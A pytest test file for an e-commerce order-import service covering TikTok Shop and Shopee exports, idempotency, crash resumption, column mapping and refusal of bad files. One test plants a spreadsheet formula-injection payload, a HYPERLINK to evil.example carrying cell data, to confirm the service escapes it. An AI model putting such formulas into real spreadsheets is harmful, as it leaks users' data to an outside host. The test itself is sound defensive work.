"""Seller Center imports through the service: the preview's counts against the file, what the import
writes, idempotency, resumption after a crash, the mapping step, and every kind of bad file."""

from __future__ import annotations

from collections import Counter
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from unittest import mock

import pytest
from django.core.exceptions import PermissionDenied
from django.utils import timezone

from tests.factories import make_membership, make_order, make_store, make_user
from tests.tracking import exports
from tracking.choices import ImportStatus, Tag
from tracking.imports import service
from tracking.imports.service import (
    ImportError_,
    import_cancel,
    import_confirm,
    import_map,
    import_upload,
    imports_run,
    refusals_csv,
)
from tracking.models import SKU, ImportMapping, ImportRefusal, Order, OrderImport, OrderLine, Shipment

NOW = datetime(2026, 12, 1, 4, 0, tzinfo=UTC)


@pytest.fixture
def admin(store):
    user = make_user("ada")
    make_membership(user=user, store=store, role="admin")
    return user


@pytest.fixture
def shopee(db):
    return make_store(code="shopee-my", name="Shopee Shop", platform="shopee")


def expected(export: list[exports.ExportOrder]) -> dict:
    """What a file of these orders must import to, computed from the orders themselves."""
    paid = [o for o in export if o.status != "unpaid"]
    return {
        "orders": len(paid),
        "unpaid_rows": sum(len(o.lines) for o in export if o.status == "unpaid"),
        "rows": sum(len(o.lines) for o in export),
        "parcels": sum(len(o.tracking) for o in paid),
        "skus": {line[0] for o in paid for line in o.lines},
    }


def upload(store, actor, data: bytes, name: str = "orders.csv") -> OrderImport:
    return import_upload(store=store, actor=actor, file_name=name, data=data, now=NOW)


def run_all(imp: OrderImport) -> OrderImport:
    import_confirm(imp, actor=imp.uploaded_by, now=NOW)
    imports_run(now=NOW)
    imp.refresh_from_db()
    return imp


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("chinese", "encode"),
    [
        (False, lambda rows: exports.as_csv(rows)),
        (True, lambda rows: exports.as_csv(rows)),
        (False, exports.as_xlsx),
        (True, exports.as_xlsx),
        (True, lambda rows: exports.as_csv(rows, encoding="gb18030")),
        (False, lambda rows: exports.as_csv(rows, encoding="utf-16", delimiter="\t")),
    ],
    ids=["csv-en", "csv-zh", "xlsx-en", "xlsx-zh", "gbk-zh", "utf16-tab-en"],
)
def test_a_tiktok_export_previews_what_it_will_write_then_imports_exactly_that(store, admin, chinese, encode):
    export = exports.orders(300, seed=7)
    want = expected(export)

    imp = upload(store, admin, encode(exports.tiktok_rows(export, chinese=chinese)))

    assert imp.status == ImportStatus.READY, imp.error
    assert imp.format == "tiktok_shop"
    preview = imp.preview
    assert preview["rows"] == want["rows"]  # the description row is not an order
    assert (preview["orders"], preview["new"], preview["changed"], preview["unchanged"]) == (
        want["orders"], want["orders"], 0, 0,
    )  # fmt: skip
    assert preview["rows_refused"] == want["unpaid_rows"]
    assert preview["skus_new"] == len(want["skus"])
    assert preview["parcels"] == want["parcels"]
    assert preview["carriers_unknown"] == {}
    assert Order.objects.count() == 0 and SKU.objects.count() == 0  # nothing written before the confirm

    imp = run_all(imp)

    assert imp.status == ImportStatus.DONE
    assert (imp.created, imp.updated, imp.unchanged) == (want["orders"], 0, 0)
    assert Order.objects.filter(store=store).count() == want["orders"]
    assert set(SKU.objects.filter(store=store).values_list("code", flat=True)) == want["skus"]
    assert Shipment.objects.filter(store=store).count() == want["parcels"]
    assert OrderLine.objects.filter(order__store=store).count() == sum(
        len(o.lines) for o in export if o.status != "unpaid"
    )


@pytest.mark.django_db
def test_every_imported_value_is_the_file_s(store, admin):
    export = exports.orders(40, seed=3)
    run_all(upload(store, admin, exports.as_csv(exports.tiktok_rows(export))))
    tz = store.tzinfo
    for source in export:
        if source.status == "unpaid":
            assert not Order.objects.filter(platform_order_id=source.order_id).exists()
            continue
        order = Order.objects.get(store=store, platform_order_id=source.order_id)
        assert order.placed_at == source.created.replace(tzinfo=tz)
        assert order.amount == source.amount
        assert order.status == {"delivered": "delivered"}.get(source.status, source.status)
        assert order.buyer_name == source.buyer[0] and order.buyer_platform_id == source.buyer[1]
        assert (order.country, order.province, order.district) == ("MY", source.buyer[2], source.buyer[3])
        assert order.ship_by == source.created.replace(tzinfo=tz) + timedelta(days=3, minutes=2)
        lines = sorted(order.lines.values_list("sku_code", "quantity", "unit_price"))
        assert lines == sorted((sku, qty, price) for sku, _n, _v, price, qty in source.lines)
        parcels = {s.tracking_number: s for s in order.shipments.all()}
        assert set(parcels) == set(source.tracking)
        for parcel in parcels.values():
            assert parcel.booked_at == source.rts.replace(tzinfo=tz)
            assert parcel.carrier in {"jtexpress-my", "ninjavan-my", "flash-express", "spx-my", "poslaju"}
            if (
                source.status == "delivered"
            ):  # the export's delivery time is the parcel's Delivered checkpoint
                assert parcel.status == Tag.DELIVERED
                assert parcel.delivered_at == source.delivered.replace(tzinfo=tz)


@pytest.mark.django_db
@pytest.mark.parametrize("chinese", [False, True], ids=["en", "zh"])
def test_a_shopee_export_in_either_language(shopee, chinese):
    user = make_user("sho")
    make_membership(user=user, store=shopee, role="admin")
    export = exports.orders(250, seed=11)
    want = expected(export)

    imp = run_all(upload(shopee, user, exports.as_xlsx(exports.shopee_rows(export, chinese=chinese))))

    assert imp.format == "shopee"
    assert imp.created == want["orders"]
    assert Shipment.objects.filter(store=shopee).count() == sum(
        1 for o in export if o.tracking and o.status != "unpaid"
    )
    some = next(o for o in export if o.status == "shipped")
    order = Order.objects.get(store=shopee, platform_order_id=some.order_id)
    assert order.ship_by == (some.created + timedelta(days=2)).replace(
        tzinfo=shopee.tzinfo
    )  # Estimated Ship Out Date
    parcel = order.shipments.get()
    assert parcel.carrier != "standard-delivery"  # "Standard Delivery - J&T Express" names J&T


@pytest.mark.django_db
def test_importing_the_same_file_twice_changes_nothing(store, admin):
    data = exports.as_csv(exports.tiktok_rows(exports.orders(120, seed=5)))
    first = run_all(upload(store, admin, data))
    snapshot = sorted(Order.objects.values_list("platform_order_id", "updated_at", "amount"))
    parcels = Shipment.objects.count()

    again = upload(store, admin, data)
    assert (again.preview["new"], again.preview["changed"]) == (0, 0)
    assert again.preview["unchanged"] == first.created
    again = run_all(again)

    assert (again.created, again.updated, again.unchanged) == (0, 0, first.created)
    assert sorted(Order.objects.values_list("platform_order_id", "updated_at", "amount")) == snapshot
    assert Shipment.objects.count() == parcels


@pytest.mark.django_db
def test_a_crash_mid_import_resumes_from_the_last_committed_chunk(store, admin, monkeypatch):
    monkeypatch.setattr(service, "CHUNK", 40)
    export = exports.orders(200, seed=9)
    data = exports.as_csv(exports.tiktok_rows(export))
    imp = upload(store, admin, data)
    import_confirm(imp, actor=admin, now=NOW)
    real = service.orders_upsert
    calls = Counter()

    def crashing(**kwargs):
        calls["n"] += 1
        if calls["n"] == 3:
            raise RuntimeError("worker killed")
        return real(**kwargs)

    with mock.patch.object(service, "orders_upsert", crashing), pytest.raises(RuntimeError):
        imports_run(now=NOW)
    imp.refresh_from_db()
    assert imp.status == ImportStatus.RUNNING and imp.orders_done == 80  # two chunks committed, the third not
    assert Order.objects.count() == 80

    imports_run(now=NOW)  # the lease still holds: nobody takes it over yet
    assert Order.objects.count() == 80
    imports_run(now=NOW + service.LEASE + timedelta(seconds=1))

    imp.refresh_from_db()
    assert imp.status == ImportStatus.DONE
    assert imp.created == expected(export)["orders"] == Order.objects.count()
    assert Order.objects.values("platform_order_id").distinct().count() == Order.objects.count()


@pytest.mark.django_db
def test_an_unknown_layout_asks_for_its_columns_and_remembers_the_answer(store, admin):
    rows = [
        ["No. Pesanan", "SKU Penjual", "Kuantiti", "Tarikh", "Penerima", "Harga", "No. Penjejakan", "Kurier"]
    ]
    rows += [[f"A{i:05d}", "RICE-5KG", "2", f"2026-11-{10 + i % 9:02d} 10:00", "Aminah", "32.90",
              f"JT{i:010d}", "J&T Express"] for i in range(30)]  # fmt: skip
    data = exports.as_csv(rows)

    imp = upload(store, admin, data)
    assert imp.status == ImportStatus.NEEDS_MAPPING
    with pytest.raises(ImportError_, match="Still needed"):
        import_map(imp, actor=admin, mapping={"order_id": 0, "sku": 1})
    with pytest.raises(ImportError_, match="two fields"):
        import_map(
            imp,
            actor=admin,
            mapping={"order_id": 0, "sku": 0, "quantity": 2, "created_at": 3, "recipient": 4},
        )

    imp = import_map(imp, actor=admin, mapping={
        "order_id": 0, "sku": 1, "quantity": 2, "created_at": 3, "recipient": 4, "unit_price": 5,
        "tracking_number": 6, "carrier": 7,
    })  # fmt: skip
    assert imp.status == ImportStatus.READY
    assert imp.preview["new"] == 30
    assert ImportMapping.objects.filter(store=store).count() == 1

    second = upload(store, admin, data)  # the same layout again: no question asked
    assert second.status == ImportStatus.READY
    run_all(imp)
    order = Order.objects.get(platform_order_id="A00003")
    assert order.shipments.get().carrier == "jtexpress-my"
    assert order.amount == Decimal("65.80")


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "empty"),
        (b"   \r\n", "empty"),
        (b"Order ID,Seller SKU,Quantity,Created Time,Recipient\r\n", "no orders"),
        (b"%PDF-1.7 not a spreadsheet", "not a spreadsheet"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "password"),
        (b"PK\x03\x04broken zip", "cannot be opened"),
        (b"\xff\xfe\x00\xd8" + "Order".encode("utf-16-le"), "broken"),
        (bytes(range(256)) * 10, "encoding"),
    ],
    ids=["empty", "blank", "header-only", "pdf", "xls-or-encrypted", "broken-xlsx", "broken-utf16", "binary"],
)
def test_unreadable_files_are_refused_whole_with_the_reason(store, admin, data, message):
    imp = upload(store, admin, data)

    assert imp.status == ImportStatus.REFUSED
    assert message in imp.error.lower()
    assert Order.objects.count() == 0


@pytest.mark.django_db
def test_another_platform_s_export_is_refused(store, shopee, admin):
    data = exports.as_csv(exports.shopee_rows(exports.orders(20)))
    imp = upload(store, admin, data)
    assert imp.status == ImportStatus.REFUSED
    assert "Shopee" in imp.error and "TikTok Shop" in imp.error


@pytest.mark.django_db
def test_another_shop_s_export_is_refused(store, admin):
    rows = exports.tiktok_rows(exports.orders(30))
    country = exports.TIKTOK_EN.index("Country")
    for row in rows[2:]:
        row[country] = "Thailand"
    imp = upload(store, admin, exports.as_csv(rows))
    assert imp.status == ImportStatus.REFUSED and "TH" in imp.error

    sister = make_store(code="sister", name="Sister Shop")
    make_membership(user=admin, store=sister, role="admin")
    admin = type(admin).objects.get(pk=admin.pk)  # roles are memoized per user object (one per request)
    export = exports.orders(30, seed=2)
    run_all(upload(sister, admin, exports.as_csv(exports.tiktok_rows(export))))
    imp = upload(store, admin, exports.as_csv(exports.tiktok_rows(export)))
    assert imp.status == ImportStatus.REFUSED and "Sister Shop" in imp.error


@pytest.mark.django_db
def test_bad_rows_refuse_their_order_whole_and_say_why(store, admin):
    export = exports.orders(60, seed=4)
    rows = exports.tiktok_rows(export)
    quantity = exports.TIKTOK_EN.index("Quantity")
    created = exports.TIKTOK_EN.index("Created Time")
    multi = next(o for o in export if len(o.lines) > 1 and o.status != "unpaid")
    first_row = next(i for i, row in enumerate(rows) if row[0] == multi.order_id)
    rows[first_row][quantity] = "two"
    bad_date = next(i for i, row in enumerate(rows[2:], start=2) if row[0] != multi.order_id)
    rows[bad_date][created] = "31/31/2026 25:00:00"
    rows.append(list(rows[5]))  # a duplicated row

    imp = upload(store, admin, exports.as_csv(rows))

    reasons = {r.row: r.reason for r in ImportRefusal.objects.filter(order_import=imp, stage="preview")}
    assert "Quantity two is not a whole number" in reasons[first_row + 1]
    assert f"Row {first_row + 1} of this order was refused" in reasons[first_row + 2]
    assert "date" in reasons[bad_date + 1]
    assert "The same as row 6" in reasons[len(rows)]
    run_all(imp)
    assert not Order.objects.filter(platform_order_id=multi.order_id).exists()
    assert not OrderLine.objects.filter(order__platform_order_id=multi.order_id).exists()


@pytest.mark.django_db
def test_formula_cells_come_back_as_text_in_the_refused_rows_csv(store, admin):
    rows = exports.tiktok_rows(exports.orders(5, seed=1))
    address = exports.TIKTOK_EN.index("Detail Address")
    quantity = exports.TIKTOK_EN.index("Quantity")
    rows[2][address] = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    rows[2][quantity] = "-1"
    imp = upload(store, admin, exports.as_csv(rows))

    body = b"".join(refusals_csv(imp)).decode("utf-8-sig")

    assert "'=HYPERLINK" in body
    assert ",=HYPERLINK" not in body and ',"=HYPERLINK' not in body


@pytest.mark.django_db
def test_an_import_keeps_what_the_file_does_not_say(store, admin):
    export = exports.orders(10, seed=6)
    source = next(o for o in export if o.status == "shipped")
    order = make_order(store=store, platform_order_id=source.order_id, buyer_email="buyer@example.com",
                       buyer_language="zh-hans", payment_flagged=True)  # fmt: skip

    run_all(upload(store, admin, exports.as_csv(exports.tiktok_rows(export))))

    order.refresh_from_db()
    assert (order.buyer_email, order.buyer_language, order.payment_flagged) == (
        "buyer@example.com",
        "zh-hans",
        True,
    )
    assert order.buyer_name == source.buyer[0]  # what the file says, it says


@pytest.mark.django_db
def test_only_store_admins_import_and_a_running_import_cannot_be_cancelled(store, admin, agent):
    data = exports.as_csv(exports.tiktok_rows(exports.orders(10)))
    with pytest.raises(PermissionDenied, match="admins"):
        upload(store, agent, data)
    imp = upload(store, admin, data)
    import_confirm(imp, actor=admin, now=NOW)
    with pytest.raises(ImportError_):
        import_cancel(imp, actor=admin)
    import_confirm(imp, actor=admin, now=NOW)  # a second confirm changes nothing
    assert OrderImport.objects.get(pk=imp.pk).status == ImportStatus.QUEUED


@pytest.mark.django_db
def test_ambiguous_slashed_dates_follow_the_file(store, admin):
    export = exports.orders(12, seed=8, start=datetime(2026, 11, 2, 9, 0))
    rows = exports.tiktok_rows(export)  # 11/02/2026 08:05:12 AM ... all days below 13
    imp = run_all(upload(store, admin, exports.as_csv(rows)))
    assert imp.status == ImportStatus.DONE
    first = Order.objects.filter(store=store).order_by("placed_at").first()
    assert first.placed_at.astimezone(store.tzinfo).month == 11  # AM/PM: the US English export, month first


@pytest.mark.django_db
def test_ambiguous_24_hour_dates_are_day_first_unless_a_day_over_12_says_otherwise(store, admin):
    header = ["Order ID", "Seller SKU", "Quantity", "Created Time", "Recipient"]
    ambiguous = [header, ["X1", "RICE-5KG", "1", "03/11/2026 10:00:00", "Ali"]]
    run_all(upload(store, admin, exports.as_csv(ambiguous)))
    assert Order.objects.get(platform_order_id="X1").placed_at.astimezone(store.tzinfo).month == 11

    proven = [header, ["X2", "RICE-5KG", "1", "11/03/2026 10:00:00", "Ali"],
              ["X3", "RICE-5KG", "1", "11/29/2026 10:00:00", "Ali"]]  # fmt: skip
    run_all(upload(store, admin, exports.as_csv(proven)))
    assert Order.objects.get(platform_order_id="X2").placed_at.astimezone(
        store.tzinfo
    ).date().isoformat() == ("2026-11-03")


@pytest.mark.django_db
def test_a_large_file_is_checked_by_the_worker(store, admin, monkeypatch):
    monkeypatch.setattr(service, "INLINE_CHECK_BYTES", 100)
    imp = upload(store, admin, exports.as_csv(exports.tiktok_rows(exports.orders(20))))
    assert imp.status == ImportStatus.CHECKING and imp.preview == {}

    imports_run(now=NOW)

    imp.refresh_from_db()
    assert imp.status == ImportStatus.READY and imp.preview["orders"] > 0
    assert Order.objects.count() == 0


@pytest.mark.django_db
def test_imported_parcels_on_their_way_are_backfilled_before_they_are_judged(store, admin):
    from cases.engine import exceptions_sweep
    from cases.models import Case
    from cases.selectors import import_first_look
    from tracking.models import TrackingConnection
    from tracking.tasks import register_due, sync_due

    TrackingConnection.objects.create(
        store=store,
        provider="simulator",
        webhook_secret="s" * 16,
        credentials={"scenario": "in_transit", "seed": "3"},
    )
    local_now = timezone.localtime(timezone.now(), store.tzinfo).replace(tzinfo=None)
    export = exports.orders(60, seed=13, start=local_now - timedelta(days=4))
    imp = upload(store, admin, exports.as_csv(exports.tiktok_rows(export)))
    import_confirm(imp, actor=admin)
    imports_run()
    imp.refresh_from_db()
    moving = Shipment.objects.filter(order__source_import=imp).exclude(status=Tag.DELIVERED)
    assert moving.exists()
    assert all(p.next_poll_at <= imp.created_at for p in moving)  # first in line for the providers
    exceptions_sweep()
    assert not Case.objects.exists()  # nothing judged while the history is on its way
    assert import_first_look(imp).settled is False

    register_due()
    sync_due()
    exceptions_sweep()

    assert moving.filter(last_event_at__isnull=True).count() == 0  # each fetched once, its history in
    # Judged on their histories: a pickup case only where the carrier has the data but never scanned the parcel.
    late = set(Case.objects.filter(type="pickup_overdue").values_list("shipment_id", flat=True))
    due = moving.filter(accepted_at__isnull=True, booked_at__lte=timezone.now() - timedelta(hours=24))
    assert late == set(due.values_list("pk", flat=True))
    assert moving.filter(accepted_at__isnull=False).exists()
    look = import_first_look(imp)
    assert look.settled and look.in_flight == moving.count()


@pytest.mark.django_db
def test_the_sample_export_in_docs_imports_into_a_tiktok_shop_malaysia_store(store, admin):
    from pathlib import Path

    data = (Path(__file__).resolve().parents[2] / "docs/samples/tiktok-shop-order-export.csv").read_bytes()
    imp = upload(store, admin, data, "tiktok-shop-order-export.csv")
    assert imp.status == ImportStatus.READY and imp.preview["new"] > 50
    assert all("Not paid" in reason for reason, _n in imp.preview["reasons"])
